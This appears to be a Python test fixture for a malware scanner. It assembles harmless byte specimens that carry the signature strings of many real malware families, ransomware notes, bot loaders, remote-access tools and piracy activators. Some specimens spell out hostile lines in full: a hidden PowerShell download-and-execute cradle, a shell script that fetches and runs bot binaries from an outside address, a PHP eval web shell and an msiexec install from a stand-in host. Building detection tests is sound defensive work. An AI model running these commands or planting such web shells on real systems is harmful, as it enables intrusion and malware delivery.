"""Harmless files that the starter rules must find: a few words each, put together while a test runs, never stored.

None of them can run: the "programs" are a mark of two or four bytes and then text.
"""

import struct

MZ, ELF = b"MZ\x90\x00", b"\x7fELF"
LNK = b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"


def words(mark: bytes, *texts: str, wide: bool = False) -> bytes:
    """Return *mark* and then each text, with rubbish between them."""
    encoded = [text.encode("utf-16-le" if wide else "latin-1") for text in texts]
    return mark + bytes(60) + b"\x00\x01\x02".join(encoded) + bytes(16)


def hidden(text: str, key: int = 0x22) -> bytes:
    return bytes(each ^ key for each in text.encode("ascii"))


def eicar() -> bytes:
    """Return the anti-malware test file (EICAR), which any scanner finds and which does nothing."""
    parts = ("X5O!P%@AP[4", chr(92), "PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*")
    return "".join(parts).encode("ascii")


def shortcut(arguments: str) -> bytes:
    """Return a shortcut (MS-SHLLINK) with a relative path and *arguments*."""
    texts = [r"..\..\Windows\System32\cmd.exe", arguments]
    body = b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in texts)
    return LNK + struct.pack("<I", 8 | 32 | 128) + bytes(52) + body


SPECIMENS: dict[str, bytes] = {
    "clamav_test_file": bytes.fromhex("bb71104000" + "33c050508bf353535" + "0b029403004" + "66ac79f9ba")
    + b"KERNEL32.DLL\0\0ExitProcess\0USER32.DLL\0CLAMessage"
    + b"BoxA",
    "conficker_loader": words(MZ, "jwgkvsq" + ".vmx", "ahaez" + "edrn"),
    "conficker_autorun": b"[AUTorUN]\r\nopen=RUNDLL32.EXE .\\RECYCLER\\S-5-3-42-2819952290-8240758988-87931\\abcdefg.vmx,x",
    "gamarue_bot": words(MZ, "id:%lu|bid:%lu|os:%lu" + "|la:%lu|rg:%lu"),
    "gamarue_usb_loader": words(b"", "rundll32.exe ~$WABCDEF.FAT32" + ",crys DESKTOP.INI"),
    "sality_body": words(MZ, "Op1mu" + "tx9", "purity_" + "control_7"),
    "necurs_rootkit": words(MZ, "\\Device\\NtSecure" + "Sys", wide=True),
    "ramnit_page": b'<html></html><script language=vbscript>DropFileName = "svchost.exe"\nWriteData = "4D5A' + b'90"',
    "virut_page": b'<html><iframe src="http://jL.chura' + b'.pl/rc/" style="display:none"></html>',
    "brontok_worm": words(MZ, "Bron" + "tok.A", "JowoBot"),
    "phorpiex_usb": words(LNK, "/c start _ & _\\" + "DriveMgr.exe & exit", wide=True),
    "usb_houdini_script": b"'<[ recoder : houdini (c) skype : houdini" + b"-fx ]>",
    "usb_raspberry_robin_shortcut": words(LNK, "mSiExEc /q /i http://bad.example" + ":8080/x", wide=False),
    "usb_shortcut_starts_hidden_program": words(LNK, "cmd.exe", "/c start wscript x.vbs", wide=True),
    "usb_autorun_worm": b"[autorun]\r\naction=Open folder to view" + b" files\r\n",
    "usb_plugx": words(MZ, "/update?id=%8" + ".8x", "boot.cfg", "PlugProc"),
    "mirai_bot": ELF + bytes(60) + b"".join(map(hidden, ("listening tun0", "/dev/watchdog", "applet not found"))),
    "gafgyt_bot": words(ELF, "LOLNOG" + "TFO", "GETLOCALIP"),
    "mozi_bot": words(ELF, "Mozi" + ".m", "[ss]"),
    "xorddos_bot": words(ELF, "BB2FA36AAA" + "9541F0", "/lib/libudev.so"),
    "kaiten_bot": words(ELF, "NOTICE %s :Unable to" + " comply.", "NOTICE %s :Spoofs:"),
    "vpnfilter_stage": words(ELF, "/var/run/vpn" + "filterw"),
    "xmrig_miner": words(ELF, "donate.v2.xm" + "rig.com"),
    "coinhive_page": b"<script>new CoinHive" + b".Anonymous('x')</script>",
    "wannacry_program": words(MZ, "tasksche.exe", "MsWinZonesCache" + "CounterMutexA"),
    "wannacry_locked_file": b"WANA" + b"CRY!" + struct.pack("<I", 256) + bytes(300),
    "wannacry_note": b"run @Wana" + b"Decryptor@.exe, read @Please_Read" + b"_Me@.txt",
    "lockbit_note": b"~~~ LockBit" + b" 3.0 ~~~\nYour data are stolen and encrypted\n",
    "stop_note": b"ATTENTION!\nDon't worry, you can return all" + b" your files!\nYour personal ID:\n",
    "njrat_client": words(MZ, 'cmd.exe /c ping 0 -n 2 & del "', "SEE_MASK_NOZONECHECKS", "Execute ERROR", wide=True),
    "asyncrat_client": words(MZ, "AsyncMutex_6SI8" + "OkPnk"),
    "quasar_client": words(MZ, "Quasar" + ".Client", "Quasar" + ".Common"),
    "remcos_client": words(MZ, "Remcos_Mutex" + "_Inj"),
    "redline_stealer": words(MZ, "Yandex\\YaAddon", "https://api.ip.sb/ip", "net.tcp://", wide=True),
    "cobalt_strike_beacon": words(b"", "beacon.x64" + ".dll", "could not spawn %s (token): %d"),
    "mimikatz_tool": words(MZ, "sekurlsa::logon" + "passwords", "gentil" + "kiwi", wide=True),
    "gh0st_client": words(MZ, "Global\\Gh0" + "st %d"),
    "webshell_one_line": b"<?php @eval" + b"($_POST['x']);?>",
    "webshell_wso": b"<?php define('WSO_" + b"VERSION','2'); $x='Files" + b"Man';",
    "powershell_hidden_download": b"powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('http://x')",
    "shell_dropper_of_bots": b"#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /\n"
    + b"".join(b"wget http://192.0.2.1/bins/%s; chmod +x x; ./x\n" % each for each in (b"mips", b"arm7", b"x86")),
    "kms_pico": words(MZ, "KMS" + "ELDI", "KMS" + "pico", wide=True),
    "kms_auto": words(MZ, "KMSAuto" + " Net", wide=True),
    "kms_microsoft_toolkit": words(MZ, "Auto" + "KMS", "EZ-" + "Activator"),
    "kms_emulator": words(MZ, "SppExtCom" + "ObjHook"),
    "activation_script": b"cscript slmgr.vbs /skms kms.example\r\nslmgr /ato\r\n",
    "windows_loader": words(MZ, "Windows Loader", "SLIC", "By Daz"),
    "keygen_or_patcher": words(MZ, "Adobe key" + "gen", "X-FO" + "RCE"),
    "activator_task_or_service": "\ufeff<Task version='1.2'><Command>C:\\Windows\\Auto".encode("utf-16-le")
    + "KMS.exe</Command>".encode("utf-16-le"),
    "eicar_test_file": eicar(),
}
